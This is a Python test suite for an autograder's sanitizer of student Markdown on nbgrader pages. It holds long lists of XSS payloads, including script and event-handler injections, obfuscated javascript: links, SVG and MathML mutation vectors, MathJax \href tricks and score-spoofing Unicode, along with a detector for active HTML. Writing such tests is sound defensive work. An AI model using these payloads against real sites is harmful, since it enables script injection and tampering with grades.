"""What a student's Markdown may show on nbgrader's pages, and what is shown as text there.

The pages are made by nbconvert with nbgrader's own templates and with the kit's, and judged by parsers that the kit
itself does not use.
"""

from __future__ import annotations

import re
import struct
import time
from base64 import b64encode
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbgrader
import pytest
from bleach._vendor import html5lib  # what nbconvert cleans HTML with
from hypothesis import example, given, settings
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from nbconvert.filters import strip_files_prefix
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell
from nbgrader.converters import GenerateFeedback
from nbgrader.coursedir import CourseDirectory
from traitlets.config import Config

from autograder.course.escape import as_markdown
from autograder.course.markup import MAX_LENGTH, disarm, is_harmless, page_ids
from autograder.nbgrader.pages import FORMGRADER, FeedbackExporter
from autograder.student.text import visible

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HARMLESS = [
    "",
    "# Überschrift\n\nText mit *Betonung*, **fett** und ~~weg~~.\n\n#Kein Leerzeichen\n\nSetext\n===",
    "Größer: a < b und c > d, 5 < 6 <= 7, x<5, if x<y then, a <b, →, „Anführung“ – β·Σ|w|",
    "`vector<int>` and `<b onclick=x>` and `` ` `` and `\\href{javascript:x}`",
    "```python\nif a < b: print('<script>')\n```",
    "```\n<script>alert(1)</script>\n```",
    "~~~json\n{\"a\": \"<b>\"}\n~~~",
    "    indented <code> & more\n",
    "> quote > more\n>\n> > inner",
    "| a | b |\n|:--|:-:|\n| `x<y` | $x$ |",
    "- one\n- two\n  - three\n\n3. x\n4. y",
    "* [ ] todo\n* [x] done",
    "Begriff\n: Erklärung",
    "[link](https://example.org/a?b=c&d=(e)) and <https://example.org> and https://example.org/plain",
    "[mail](mailto:a@b.de) <a@b.de> [part](#part \"title 'x'\") [file](notes.txt) [nb](./a/b.ipynb)",
    "[ref][1]\n\n[1]: https://a.de 'title'",
    "[A](https://de.wikipedia.org/wiki/Satz_von_Moore%27s_(x))",
    "$a<b$, $$\\sum_i |w_i| \\le \\beta$$, \\\\( x \\\\) and \\\\[ \\lVert w \\rVert_1 \\\\]",
    "\\begin{align}a&=b\\\\c&<d\\end{align}",
    "$\\left( \\style_x \\right)$ \\leq \\letter".replace("\\style_x", "x"),
    "$\\operatorname*{argmin}_\\theta \\tfrac1n\\sum_{i=1}^n \\ell\\!\\left(f_\\theta(x_i), y_i\\right)\\; \\% $",
    "$$\\begin{pmatrix} 1 & \\cdots \\\\[2pt] \\vdots & 0 \\end{pmatrix} \\text{ if } \\bigl\\|x\\bigr\\|_2 \\ne 0$$",
    "A path, C:\\Users\\test, before $x$.",
    "x<sub>1</sub><sup>2</sup>, <b>bold</b>, <i>i</i>, <u>u</u>, <kbd>Ctrl</kbd><br>next<br/>\n<hr>",
    "<center>Mitte</center>\n\n<div align=\"center\"><img src=\"plot.png\" width=300 alt='Verlauf'></div>",
    "<font color=\"red\">Rot</font> <font color=#ff0000>auch</font>",
    "<table>\n<tr><th align=left>a</th></tr>\n<tr><td align='right'>b</td></tr>\n</table>",
    "<details>\n<summary>More</summary>\n\nsome *text*\n\n</details>",
    "<a href=\"https://example.org\" title=\"x\">link</a>",
    "![plot](figures/plot.png) ![two](my%20plot.jpg \"title\")",
    f"![x](data:image/png;base64,{PIXEL})",
    "![x](attachment:image.png)",
    "line  \nbreak\\\nagain\n\n---\n\n***",
    "Fußnote[^1] und 5 % & mehr &amp; &copy; &#945;\n\n[^1]: Text",
    "Emoji 👩\u200d🔬 ❤\ufe0f\u200d🔥 1\ufe0f\u20e3, שָׁלוֹם, می\u200cخواهم, e\u0301, น้ำ",
    "```python\n# 👩\u200d🔬\nx = '👩\u200d🔬'  # e\u0301\n```",
    "Kosten: 5 $ und 7 $; Pfad C:\\Users\\test",
    "a\r\n\r\nb\tc",
]  # fmt: skip

HOSTILE = [
    "<script>EVIL()</script>",
    "<SCRIPT\n>EVIL()</SCRIPT >",
    "<script/x>EVIL()</script>",
    "<scr<script>ipt>EVIL()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=EVIL()>",
    "<img src=\"x\u00a0onerror=EVIL()\" \u00a0onerror=EVIL()>",
    "<svg onload=EVIL()>",
    "<svg><script>EVIL()</script></svg>",
    "<svg><a xlink:href='javascript:EVIL()'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=EVIL()></style></svg>",
    "<iframe srcdoc='<script>EVIL()</script>'></iframe>",
    "<iframe src=javascript:EVIL()>",
    "<object data='javascript:EVIL()'></object>",
    "<embed src='//evil.example/'>",
    "[x](javascript:EVIL())",
    "[x](JaVaScRiPt:EVIL())",
    "[x](java&#115;cript:EVIL())",
    "[x](&#x6A;avascript&colon;EVIL())",
    "[x](java&Tab;script:EVIL())",
    "[x](java&NewLine;script:EVIL())",
    "[x](%6aavascript:EVIL())",
    "[x](<  javascript:EVIL()>)",
    "[x](\\javascript:EVIL())",
    "[x](vbscript:EVIL)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](DATA:text/html,<script>EVIL()</script>)",
    "[x](//evil.example)",
    "[x](file:///etc/passwd)",
    "[x](evil.html)",
    "[x](a/evil.svg)",
    "[x](/hub/logout)",
    "[x](../../../hub/logout)",
    "[x](files/javascript:EVIL())",
    "<a href=files/javascript:EVIL()>x</a>",
    "<javascript:EVIL()>",
    "[x]: javascript:EVIL()\n\n[x]",
    "[x]: <java\tscript:EVIL()>\n\n[x][x]",
    "![x](javascript:EVIL())",
    "![x](https://evil.example/t.png)",
    "![x](//evil.example/t.png)",
    "![x][r]\n\n[r]: https://evil.example/t.png",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](/hub/logout.png)",
    "![x](../../logout.png)",
    "![x](a/%2E%2E/b.png)",
    "![x](attachment:none.png)",
    "![x](attachment:page)",
    "![x](attachment:quotes)",
    "<a href=javascript:EVIL()>x</a>",
    "<a href='java\nscript:EVIL()'>x</a>",
    "<a href=' javascript:EVIL()'>x</a>",
    "<a href='https://a.example' ping='//evil.example'>x</a>",
    "<a href='https://a.example' onmouseover=EVIL()>x</a>",
    "<a href=\"https://a.example\"\"onclick=EVIL()\">x</a>",
    "<a href=`https://a` onclick=EVIL()>x</a>",
    "<a id=test_exercise>x</a>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed'>100 of 100 points</p>",
    "<p class=panel-heading>Score: 10 / 10</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:EVIL()>x</button>",
    "<input onfocus=EVIL() autofocus>",
    "<input type=checkbox>",
    "<!-- x --><script>EVIL()</script>",
    "<!-- hidden -->",
    "<!--\n\nunclosed block",
    "<!--><script>EVIL()</script>-->",
    "<![CDATA[<script>EVIL()</script>]]>",
    "<!DOCTYPE html>",
    "<?php EVIL ?>",
    "<math><mi//xlink:href='data:x,<script>EVIL()</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=EVIL()&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=EVIL()>'>",
    "<template><script>EVIL()</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=EVIL()>'></textarea>",
    "<title><a title='</title><img src=x onerror=EVIL()>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=EVIL()>'></xmp>",
    "<plaintext>",
    "<select><option>x</select>",
    "| <img src=x onerror=EVIL()> |\n|---|\n| a |",
    "| a |\n|---|\n| [x](javascript:EVIL()) |",
    "- > <img src=x onerror=EVIL()>",
    "```\n```\n<script>EVIL()</script>",
    "````\n```\n````\n<script>EVIL()</script>\n~~~~~~\n`````",
    "`` ` `` <b onclick=EVIL()>x</b>",
    "<b\nonclick=EVIL()>x</b>",
    "<b \"<i>\" onclick=EVIL()>x</b>",
    "<details ontoggle=EVIL() open>x</details>",
    "<details><summary>swallows what follows</summary>",
    "<table><tr><td>swallows what follows",
    "<b>swallows what follows",
    "</div></div></div></div>",
    "</p></b>",
    "<b/>",
    "# <img src=x onerror=EVIL()>",
    "# <b></b> <script>EVIL()</script>",
    "$\\href{javascript:EVIL()}{x}$",
    "$$\\href {javascript:EVIL()}{x}$$",
    "\\begin{align}\\style{position:fixed}{x}\\end{align}",
    "text \\\\(\\class{panel}{x}\\\\)",
    "$\\cssId{test_exercise}{x}$ $\\require{html}$",
    "$\\unicode[\"'><img src=x onerror=EVIL()>]{65}$",
    "$\\mmlToken{mi}[href=\"javascript:EVIL()\"]{x}$",
    "$\\def\\x#1;{#1href{javascript:EVIL()}{x}}\\x\\;$",
    "&#36;&#92;href{javascript:EVIL()}{x}&#36;",
    "\\$\\\\hr<tr></tr>ef{javascript:EVIL()}{x}\\$",
    "<table><code><td>\\$\\\\href{javascript:EVIL()}{x}\\$</td></code></table>",
    "```mermaid\n</pre><script>EVIL()</script>\n```",
    "```mermaid x\nclick A EVIL\n```",
    "```brainfuck\n+++\n```",
    "``` x\"onclick=\"EVIL()\n+++\n```",
    "<x-foo>x</x-foo>",
    "<video src=x onerror=EVIL()></video>",
    "<marquee onstart=EVIL()>x</marquee>",
    "<body onload=EVIL()>",
    "<frameset onload=EVIL()>",
    "\x1b[31mred",
    "points: 1\u202e001",
    "points: 1&#x202e;001",
    "10&shy;0 points&lrm;",
    "[x](https://a.example 'a&shy;b')",
    "```\n&\n```\n&#x200b;",
    "soft\u00adhyphen",
    "\ufeffmark",
    "tag\U000e0041\U000e0042",
    "filler\u3164",
    "selector\ufe0f",
    "a\u200db",
    "piled" + "\u0336" * 40,
    "$\\rule{50em}{50em}$",
    "$\\smash{\\rlap{\\raise 50em{x}}}$",
    "$\\hskip-50em x\\kern-50em$",
    "$" + "\\!" * 100 + "x$",
    "$$x\\\\[-50em] y$$",
    "$\\color{white}{x}$ $\\colorbox{white}{x}$",
    "$\\renewcommand{\\sum}{x}$",
    "$$\n\\newcommand{\\R}{\\mathbb{R}}\nw \\in \\R\n$$",
    "$\\let\\le\\ge$",
    "\\begin{equation}\\label{a}x\\end{equation}",
    "\\begin{unknown}x\\end{unknown}",
    "$\\ru<wbr>le{50em}{50em}$",
    "<table>\\$\\ru<tr><td>x</td></tr>le{50em}{50em}\\$</table>",
    "<table><tr><td>x</td></tr>moved</table>",
    "<table><td>x</td></table>",
    "<tr><td>x</td></tr>",
    f"![x](data:image/png;base64,{'A' * 80})",
    f"![x](data:image/jpeg;base64,{PIXEL})",
    "![x](attachment:huge.png)",
    "![x](attachment:fake.png)",
    "<b>" * 5000,
    "<b>" * 500 + "x" + "</b>" * 500,
    "[a]: https://a.example/" + "a" * 10_000 + "\n\n" + "[a] " * 5_000,
    "![](attachment:image.png)" * 100,
    "a" * (MAX_LENGTH + 1),
    "`" * (MAX_LENGTH + 1),
    "<p\n" * MAX_LENGTH,
    "\\\\[" * (MAX_LENGTH // 4),
]  # fmt: skip

INERT = [
    "<img/src=x/onerror=EVIL()>",
    "<img src='plot.png'onerror=EVIL()>",
    "text <!-- unclosed",
    "<\\script>EVIL()</\\script>",
    "&lt;script&gt;EVIL()&lt;/script&gt;",
    "< script>EVIL()< /script>",
    "[x]( javascript:EVIL()",
    "javascript:EVIL()",
    "\\<img src=x onerror=EVIL()>",
    "# \\<script>EVIL()\\</script>",
    "![\"onerror=EVIL()](plot.png)",
    "[x](https://a.example/\"onclick=\"EVIL())",
    "[x](https://a.example 'a\" onclick=\"EVIL()')",
    "$<script>EVIL()</script>$",
    "`<script>EVIL()</script>`",
]  # fmt: skip
"""What the renderer itself makes text of, so that it is harmless."""


def large(width: int = 30_000, height: int = 30_000) -> str:
    """Return the beginning of a PNG picture of that size, in base 64."""
    return b64encode(b"\x89PNG\r\n\x1a\n" + struct.pack(">I4sII", 13, b"IHDR", width, height)).decode()


ATTACHMENTS = {
    "huge.png": {"image/png": large()},
    "fake.png": {"image/png": b64encode(b"\x89PNG\r\n\x1a\n<script>").decode()},
    "image.png": {"image/png": PIXEL},
    "page": {"text/html": "PHNjcmlwdD4="},
    "quotes": {"image/png": "x\" onerror=\"EVIL()"},
}  # fmt: skip

HOSTILE += [f"<{tag}data:image/png;base64,{large()}{end}>" for tag, end in (
    ("img src='", "'"), ("img\nsrc=\"", '"'), ("IMG SRC=\"", '"'), ("img\talt=x src='", "' alt=y"),
)]  # fmt: skip

GRADE_ID = "test_exercise"


TEMPLATES = ["feedback", "formgrade", "our feedback", "our formgrade"]


@cache
def _exporter(template: str) -> HTMLExporter:
    """Return the exporter that nbgrader makes its pages with, as it is by itself or as the course's options make it."""
    ours, name = template.startswith("our "), template.removeprefix("our ")
    config = GenerateFeedback(coursedir=CourseDirectory()).config if name == "feedback" else Config()
    if name == "formgrade":  # what `nbgrader.server_extensions.formgrader` sets
        folder = Path(nbgrader.__file__).parent / "server_extensions" / "formgrader" / "templates"
        config.HTMLExporter.template_name = name
        config.HTMLExporter.extra_template_basedirs = [str(folder)]
    if ours:
        config.HTMLExporter.template_file = FORMGRADER
        config.HTMLExporter.preprocessors = ["autograder.nbgrader.pages.Summarize"]
        config.HTMLExporter.filters = {"markdown2html": "autograder.nbgrader.pages.markdown2html"}
    return (FeedbackExporter if template == "our feedback" else HTMLExporter)(config=config)


def page_of(cell: NotebookNode, template: str = "feedback") -> str:
    """Return the page of a notebook with the cell between two others, which tell where it begins and ends."""
    first, last = new_markdown_cell("FIRST"), new_markdown_cell("LAST")
    known = {"notebook": "nb", "score": 1, "max_score": 2, "late_penalty": 0}
    html, _ = _exporter(template).from_notebook_node(
        new_notebook(cells=[first, cell, last]), {"nbgrader": known, "base_url": "", "index": 0, "total": 1}
    )
    return html


class _Acting(HTMLParser):
    """Finds what would act, load or deceive in a browser."""

    _HARMLESS_URLS = ("http://", "https://", "mailto:", "#")

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.tags: list[str] = []
        self.text = ""
        self._code = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self._code += tag in ("code", "pre")
        if tag in _ACTIVE:
            self.found.append(tag)
        for name, value in attrs:
            target = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("srcdoc", "action", "formaction", "data", "ping", "xlink:href"):
                self.found.append(f"{tag} {name}")
            elif name == "style" and not target.startswith("text-align:"):
                self.found.append(f"{tag} {name}={target}")
            elif name == "href" and not target.startswith(self._HARMLESS_URLS):
                sound = re.fullmatch(r"(?:\./)?[\w%-][\w%/-]*(?:\.txt|\.csv|\.ipynb|\.png|)", target)
                self.found += [] if sound else [f"{tag} {name}={target}"]
            elif name == "src" and not target.startswith(("data:image/png;", "data:image/jpeg;", "data:image/gif;")):
                sound = re.fullmatch(r"[\w%-][\w%/-]*\.(?:png|jpg)", target)
                self.found += [] if sound else [f"{tag} {name}={target[:80]}"]

    def handle_endtag(self, tag: str) -> None:
        self._code -= tag in ("code", "pre")

    def handle_data(self, data: str) -> None:
        self.text += data
        if not self._code and any(command in data for command in ("\\href", "\\style", "\\class", "\\cssId")):
            self.found.append(data)

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")

    def unknown_decl(self, data: str) -> None:
        self.found.append(f"<![{data}")


_ACTIVE = (
    "script iframe object embed form style base meta link svg math video audio source template noscript textarea title "
    "xmp plaintext select button frame frameset marquee body html head applet portal dialog x-foo"
).split()


def acting(cell: NotebookNode, template: str = "feedback") -> list[str]:
    """Return what acts in the cell's part of the page, by two parsers, and what it does to the rest of the page."""
    page = page_of(cell, template)
    if template.startswith("our "):  # there formulas are elements
        page = _FORMULA.sub("", page)
    parser = _Acting()
    parser.feed(page[page.index("<p>FIRST</p>") : page.rindex("<p>LAST</p>")])
    parser.close()
    body, path = _as_browsers_see(page)
    plain = _as_browsers_see(page_of(new_markdown_cell("x"), template))[1]
    return parser.found + body + ([] if path == plain else [f"LAST is in {path}, not in {plain}"])


_MATHML = "math mrow mi mn mo mtext mspace mstyle mfrac msqrt mover munder munderover msub msup msubsup mtable mtr mtd"
_FORMULA = re.compile(rf"</?(?:{'|'.join(_MATHML.split())})(?: (?!on|href)[a-z]+=\"[^\"<>:]*\"| xmlns=\"[^\"]*\")*/?>")


def _as_browsers_see(page: str) -> tuple[list[str], list[str]]:
    """Return what acts between the cells FIRST and LAST by the HTML standard's rules, and what LAST stands in."""
    parents: dict[Any, Any] = {}
    found: list[str] = []
    seen: list[Any] = []
    tree = html5lib.parse(page[page.index("<body") :], namespaceHTMLElements=False)
    for element in tree.iter():
        parents |= dict.fromkeys(element, element)
        if (element.text or "").strip() in ("FIRST", "LAST"):
            seen.append(element)
        elif len(seen) == 1:
            found += [f"{element.tag} {name}" for name in element.attrib if str(name).startswith("on")]
            if not isinstance(element.tag, str) or element.tag in _ACTIVE or element.tag.startswith("{"):
                found.append(f"{element.tag} for browsers")
    assert len(seen) == 2, "the cell takes another one in"
    path = [seen[1]]
    while path[-1] in parents:
        path.append(parents[path[-1]])
    return found, [f"{element.tag}.{element.get('class', '')}" for element in path]


@pytest.mark.parametrize("source", HARMLESS + INERT)
def test_harmless_cells_stay_as_they_are(source: str) -> None:
    cell = new_markdown_cell(source, attachments=ATTACHMENTS)
    before = dict(cell)

    assert not disarm(cell)
    assert dict(cell) == before
    assert [acting(cell, template) for template in TEMPLATES] == [[]] * len(TEMPLATES)


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_cells_are_shown_as_text(source: str) -> None:
    cell = new_markdown_cell(source, attachments=ATTACHMENTS)

    assert disarm(cell)
    assert is_harmless(cell.source, cell.get("attachments"))
    assert [acting(cell, template) for template in TEMPLATES] == [[]] * len(TEMPLATES)
    assert "as text" in page_of(cell)
    assert not disarm(cell)


def test_the_judge_of_these_tests_sees_what_acts() -> None:
    """Cells that nothing was done to; some of the samples no browser would act upon, and a few stop nbconvert."""
    short = [text for text in HOSTILE if "EVIL" in text and "attachment" not in text and "repeat" not in text]
    blind = []
    for source in short:
        try:
            if not acting(new_markdown_cell(source)):
                blind.append(source)
        except (AssertionError, ValueError):  # it takes the following cell in
            continue

    assert len(blind) < len(short) / 5, blind


@pytest.mark.parametrize("source", ["<script>EVIL()</script>", "<b class=x>a", "plain", "```\n$\\href{x}{y}$", ""])
def test_raw_cells_are_shown_as_text(source: str) -> None:
    cell = new_raw_cell(source, metadata={"raw_mimetype": "text/html", "nbgrader": {"grade_id": "a"}})

    assert disarm(cell)
    assert cell.cell_type == "markdown"
    assert cell.metadata == {"nbgrader": {"grade_id": "a"}}
    assert acting(cell) == []


@pytest.mark.parametrize("template", TEMPLATES)
def test_code_cells_need_nothing(template: str) -> None:
    cell = new_code_cell("</script><script>EVIL()</script> '\"><img src=x onerror=EVIL()> <!-- $\\href{x}{y}$")

    assert not disarm(cell)
    assert acting(cell, template) == []


@pytest.mark.parametrize(
    "heading",
    [GRADE_ID, f"{GRADE_ID} comment", f"*{GRADE_ID}*", f"{GRADE_ID}_extra_credit", "top", "comment exercise", "toc"],
)
def test_headings_do_not_pass_for_fields_of_the_page(heading: str) -> None:
    graded = new_code_cell("", metadata={"nbgrader": {"grade_id": GRADE_ID, "task": True}})
    solution = new_code_cell("", metadata={"nbgrader": {"grade_id": "exercise", "solution": True}})
    ids = page_ids(new_notebook(cells=[graded, solution, new_code_cell("")]))

    for source in (f"# {heading}", f"{heading}\n---", f"> ## {heading}"):
        assert is_harmless(source)
        assert not is_harmless(source, ids=ids)
        cell = new_markdown_cell(source)
        assert disarm(cell, ids)
        assert "id=" not in page_of(cell).partition("FIRST")[2].partition("LAST")[0].replace('id="cell-id=', "")
    assert is_harmless(f"# About {GRADE_ID}\n\n# exercise", ids=ids)


def test_long_cells_are_cut() -> None:
    cell = new_markdown_cell("<script>" + "`x\n" * MAX_LENGTH)

    assert disarm(cell)
    assert len(cell.source) <= MAX_LENGTH
    assert cell.source.count("`x") > MAX_LENGTH / 4


_COSTLY = "[ > * < $ ` - | <b> *_ [a]( [](files/ <a\xa0b=' \\\\[ \\\\( \\begin{a} **a_ ![x](( \n>- ~~a".split(" ")


@pytest.mark.slow
@pytest.mark.parametrize("unit", _COSTLY)
def test_no_text_takes_long(unit: str) -> None:
    start = time.process_time()
    disarm(new_markdown_cell(unit * (MAX_LENGTH // len(unit))))

    assert time.process_time() - start < 5  # about half a second at most on an idle machine


_PIECES = st.sampled_from(
    [text for text in [*HOSTILE, *INERT, *HARMLESS] if len(text) < 200]
    + ["`", "```", "~~~", "\n", "\n\n", " ", "<", ">", "|", "$", "$$", "\\", '"', "'", "&", "#"]
    + ["- ", "> ", "[", "](", ")"]
    + "<b> </b> <p> </p> <table> </table> <tr> </tr> <td> </td> <li> </li> <h1> </h1> <a> </a> <br>".split()
    + "<details> </details> <summary> </summary> <code> </code> <pre> </pre> <caption> </caption> <dl> </dl>".split()
)  # fmt: skip


@pytest.mark.slow
@settings(max_examples=150, deadline=None)
@given(st.lists(_PIECES | st.text(max_size=5), max_size=8).map("".join))
@example("<p><table></p></table>")
def test_no_combination_gets_through(source: str) -> None:
    cell = new_markdown_cell(source, attachments=ATTACHMENTS)
    disarm(cell)

    assert acting(cell) == []


_SOUND = "b i p table tr td th caption tbody li ul ol dl dt dd h1 h2 a details summary code pre center div font".split()


@pytest.mark.slow
@settings(max_examples=300, deadline=None)
@given(st.recursive(
    st.sampled_from(["x", "<br>", "\\\\href", "\\\\le", "t{x}"]),
    lambda inner: st.tuples(st.sampled_from(_SOUND), st.lists(inner, max_size=3).map("".join)).map(
        lambda pair: f"<{pair[0]}>{pair[1]}</{pair[0]}>"
    ) | st.lists(inner, max_size=3).map("".join),
    max_leaves=12,
))  # fmt: skip
def test_tags_in_wrong_places_do_not_leave_theirs(source: str) -> None:
    """Browsers move, join and drop them, by rules that the kit does not know."""
    source = f"\\$x{source}\\$"
    if not is_harmless(source):
        return
    page = page_of(new_markdown_cell(source))
    found, path = _as_browsers_see(page)

    assert found == []
    assert path == _as_browsers_see(page_of(new_markdown_cell("x")))[1]
    tree = html5lib.parse(page[page.index("<p>FIRST</p>") :], namespaceHTMLElements=False)
    assert not re.search(r"\\(?:href|let)(?![a-z])", "".join(_outside_code(tree)))


def _outside_code(element: Any) -> list[str]:
    texts = [] if element.tag in ("code", "pre", "script", "style") else [element.text or ""]
    for child in element if texts else ():
        texts += [*_outside_code(child), child.tail or ""]
    return texts


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=60) | st.sampled_from([text for text in [*HOSTILE, *HARMLESS] if len(text) < 200]))
@example("$$\\href{javascript:x}{y}$$")
@example("1. `x` ``y - **")
@example("- [ ] &lt;b&gt; \\$x_1$ ~~a~~ |b| https://a.de a@b.de")
def test_any_text_can_be_shown_in_markdown(text: str) -> None:
    shown = as_markdown(text)

    for source in (shown, f"- {shown}\n- {shown}", f"# {shown}", f"*x* {shown}: y"):
        assert is_harmless(source)
    parser = _Acting()
    page = page_of(new_markdown_cell(f"BEGIN{shown}END"))
    parser.feed(page[page.index("<p>BEGIN") :])
    told = parser.text.partition("BEGIN")[2].partition("END")[0]
    assert "\n" not in shown
    assert _visible(told) == _visible(strip_files_prefix(" ".join(text.split())))
    assert set(parser.tags) <= {"p", "div", "code"}


def _visible(text: str) -> str:
    """Leave out what neither a person nor a page tells apart."""
    return "".join("?" if not c.isprintable() or c == "\ufffd" else c for c in visible(text))
